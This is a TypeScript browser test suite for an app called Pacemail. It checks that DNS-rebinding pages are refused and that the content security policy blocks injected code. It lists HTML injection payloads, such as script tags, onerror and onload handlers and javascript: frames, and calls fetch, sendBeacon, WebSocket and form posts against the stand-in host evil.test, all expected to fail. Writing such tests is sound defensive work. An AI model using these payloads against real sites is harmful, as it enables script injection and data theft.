import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser, BrowserContext, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { launchBrowser, openPage } from '#test/support/browser'
import { type ServedApp, serveForTest } from '#test/support/serve-for-test'

/** A name of somebody else's that leads to this machine, as after DNS rebinding. */
const EVIL = 'evil.test'

let browser: Browser
beforeAll(async () => {
  browser = await launchBrowser(`--host-resolver-rules=MAP ${EVIL} 127.0.0.1`)
})
afterAll(async () => {
  await browser.close()
})

interface Rebound extends AsyncDisposable {
  /** Pacemail, where the page of somebody else came from. */
  readonly app: ServedApp
  readonly page: Page
  /** How the page names the host, by its own name and by the real address. */
  readonly own: string
  readonly direct: string
  readonly launchCode: string
}

/** The page comes from a server of somebody else's; that one ends, and Pacemail starts on its port: its name leads here. */
async function rebind(context: BrowserContext): Promise<Rebound> {
  const server = createServer((_request, response) =>
    response.setHeader('Content-Type', 'text/html').end('<p>A nice page'),
  )
  await once(server.listen(0, '127.0.0.1'), 'listening')
  const { port } = server.address() as AddressInfo
  const page = await context.newPage()
  await page.goto(`http://${EVIL}:${port}/`)
  server.close()
  server.closeAllConnections()
  await once(server, 'close')
  const app = await serveForTest({ port })
  const own = `http://${EVIL}:${port}`
  const direct = `http://127.0.0.1:${port}`
  const launchCode = new URL(app.url).hash.slice('#launch='.length)
  return { app, page, own, direct, launchCode, [Symbol.asyncDispose]: () => app[Symbol.asyncDispose]() }
}

describe('a page whose name leads to this machine', () => {
  let context: BrowserContext
  beforeEach(async () => {
    context = await browser.newContext()
  })
  afterEach(() => context.close())

  test('is refused everything, though the browser takes the host for its own', async () => {
    await using rebound = await rebind(context)
    const { page, own, launchCode } = rebound
    const answers = await page.evaluate(async (code) => {
      const read = async (path: string, init: RequestInit = {}): Promise<string> => {
        const answer = await fetch(path, init)
        return `${answer.type} ${answer.status} ${(await answer.text()).length}`
      }
      const headers = { 'Content-Type': 'application/json' }
      return {
        page: await read('/'),
        file: await read('/index.html'),
        session: await read('/session', { method: 'POST', headers, body: JSON.stringify({ code }) }),
        cookies: document.cookie,
      }
    }, launchCode)
    expect(answers).toEqual({ page: 'basic 403 0', file: 'basic 403 0', session: 'basic 403 0', cookies: '' })
    expect(await socketEnd(page, `${own.replace('http', 'ws')}/socket`)).toBe('refused')
  })

  test('reads nothing under the real address either, and the code it knew still works for the rep', async () => {
    await using rebound = await rebind(context)
    const { app, page, direct, launchCode } = rebound
    const asked = { address: direct, body: JSON.stringify({ code: launchCode }) }
    const answers = await page.evaluate(async ({ address, body }) => {
      const seen = async (path: string, init: RequestInit): Promise<string> => {
        const answer = await fetch(`${address}${path}`, init).catch(() => null)
        return answer === null ? 'unreadable' : `${answer.type} ${answer.status}`
      }
      const headers = { 'Content-Type': 'application/json' }
      return {
        read: await seen('/', {}),
        asked: await seen('/session', { method: 'POST', headers, body }),
        blind: await seen('/session', { method: 'POST', mode: 'no-cors', body }),
      }
    }, asked)
    expect(answers).toMatchObject({ read: 'unreadable', asked: 'unreadable' })
    expect(await socketEnd(page, `${direct.replace('http', 'ws')}/socket`)).toBe('refused')

    const { page: reps, problems } = await openPage(browser, { url: app.url, now: app.clock.now() })
    await reps.getByRole('button', { name: 'Try it with sample leads' }).waitFor()
    expect(problems).toEqual([])
    await reps.context().close()
  })

  test('cannot ride on the rep’s session, which stands open in the same browser', async () => {
    await using rebound = await rebind(context)
    const { app, page, direct } = rebound
    const reps = await context.newPage()
    await reps.goto(app.url)
    await reps.getByRole('button', { name: 'Try it with sample leads' }).waitFor()
    expect(await context.cookies(direct)).toHaveLength(1)
    expect(await socketEnd(page, `${direct.replace('http', 'ws')}/socket`)).toBe('refused')
    expect(await framed(page, direct)).toBe(false)
  })
})

/** How a socket that a page opens ends. */
function socketEnd(page: Page, address: string): Promise<string> {
  return page.evaluate(
    (url) =>
      new Promise<string>((resolve) => {
        const socket = new WebSocket(url)
        socket.addEventListener('open', () => resolve('open'))
        socket.addEventListener('error', () => resolve('refused'))
      }),
    address,
  )
}

/** Does the rep's page show in a frame of another? */
async function framed(page: Page, address: string): Promise<boolean> {
  await page.evaluate(
    (url) =>
      new Promise((resolve) => {
        const frame = document.createElement('iframe')
        frame.addEventListener('load', resolve)
        frame.src = url
        document.body.append(frame)
      }),
    address,
  )
  return page.frames().some((frame) => frame !== page.mainFrame() && frame.url().startsWith(address))
}

/** Ways to run code or to reach the network from inside the page; each sets `hit` or asks for an address when it works. */
const injections: Readonly<Record<string, string>> = {
  'a script in the page': '<script>globalThis.hit = 1</script>',
  'a script from elsewhere': '<script src="https://evil.test/x.js"></script>',
  'a script as data': '<script src="data:text/javascript,globalThis.hit=1"></script>',
  'a module as data': '<script type="module" src="data:text/javascript,globalThis.hit=1"></script>',
  'an event of a picture': '<img src="data:x" onerror="globalThis.hit=1">',
  'an event of a drawing': '<svg onload="globalThis.hit=1"></svg>',
  'an event of a frame': '<iframe srcdoc="x" onload="globalThis.hit=1"></iframe>',
  'a script in a frame': '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
  'a frame of code': '<iframe src="javascript:parent.hit=1"></iframe>',
  'a frame of data': '<iframe src="data:text/html,<script>parent.hit=1</script>"></iframe>',
  'a frame from elsewhere': '<iframe src="https://evil.test/"></iframe>',
  'an object': '<object data="https://evil.test/x.swf"></object>',
  'a plug-in': '<embed src="https://evil.test/x.swf">',
  'a picture from elsewhere': '<img src="https://evil.test/x.png">',
  'a sound from elsewhere': '<audio src="https://evil.test/x.mp3" autoplay></audio>',
  'a style from elsewhere': '<link rel="stylesheet" href="https://evil.test/x.css">',
  'a font from elsewhere':
    '<style>@font-face{font-family:e;src:url(https://evil.test/x.woff2)}</style><p style="font-family:e">x',
  'a background from elsewhere': '<p style="background:url(https://evil.test/x.png)">x',
  'a manifest from elsewhere': '<link rel="manifest" href="https://evil.test/x.json">',
  'an icon from elsewhere': '<link rel="icon" href="https://evil.test/x.ico">',
  'a page loaded ahead':
    '<link rel="prefetch" href="https://evil.test/x.js"><link rel="preload" as="script" href="https://evil.test/y.js">',
  'another base': '<base href="https://evil.test/">',
}

describe('what somebody gets into the page', () => {
  test('runs no code and reaches no network, whatever it is', async () => {
    await using app = await serveForTest()
    const { origin } = new URL(app.url)
    const { page } = await openPage(browser, { url: app.url, now: app.clock.now() })
    await page.getByRole('button', { name: 'Try it with sample leads' }).waitFor()
    const reached: string[] = []
    page.on('requestfinished', (request) => reached.push(request.url()))
    page.on('response', (response) => reached.push(response.url()))
    const ran: string[] = []
    for (const [name, html] of Object.entries(injections)) {
      if (await runs(page, html)) ran.push(name)
    }
    expect(ran).toEqual([])
    expect(reached.filter((url) => !url.startsWith(origin) && !url.startsWith('data:'))).toEqual([])
    await page.context().close()
  })

  test('cannot make code of text, nor call, post, leave a beacon or open a socket elsewhere', async () => {
    await using app = await serveForTest()
    const { page } = await openPage(browser, { url: app.url, now: app.clock.now() })
    await page.getByRole('button', { name: 'Try it with sample leads' }).waitFor()
    const done = await page.evaluate(async () => {
      const works = (name: string, run: () => unknown): Promise<string[]> =>
        new Promise((resolve) => {
          const attempt = async (): Promise<void> => {
            try {
              await run()
              resolve([name])
            } catch {
              resolve([])
            }
          }
          // From a timer, because what the test's own call runs may make code of text.
          setTimeout(() => void attempt())
        })
      const text = 'globalThis.hit = 1'
      const form = document.createElement('form')
      form.action = 'https://evil.test/'
      form.method = 'post'
      document.body.append(form)
      const expected = ['connect-src', 'form-action', 'img-src', 'script-src']
      const violated = new Set<string>()
      const allViolated = new Promise<void>((resolve) => {
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
          violated.add(effectiveDirective)
          if (expected.every((directive) => violated.has(directive))) resolve()
        })
      })
      form.submit()
      navigator.sendBeacon('https://evil.test/')
      new Image().src = 'https://evil.test/x.png'
      const worked = [
        await works('Function', () => (0, globalThis.Function)(text)()),
        await works('fetch', () => fetch('https://evil.test/')),
        await works('socket', () => opened(new WebSocket('wss://evil.test/'), 'open')),
        await works('worker', () => opened(new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))), 'message')),
      ].flat()
      await allViolated
      return { worked, hit: 'hit' in globalThis }

      function opened(target: EventTarget, event: string): Promise<void> {
        return new Promise((resolve, reject) => {
          target.addEventListener(event, () => resolve())
          target.addEventListener('error', () => reject(new Error('refused')))
        })
      }
    })
    expect(done).toEqual({ worked: [], hit: false })
    await page.context().close()
  })
})

/** Puts HTML into the page as a script there could, and looks whether it did anything. */
async function runs(page: Page, html: string): Promise<boolean> {
  return page.evaluate(async (content) => {
    // Scripts that are parsed into an element do not run by rule; a fragment made of a range runs them.
    const range = document.createRange()
    range.selectNode(document.body)
    const added = range.createContextualFragment(content)
    const nodes = [...added.childNodes]
    document.body.append(added)
    await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)))
    for (const node of nodes) node.remove()
    return 'hit' in globalThis
  }, html)
}
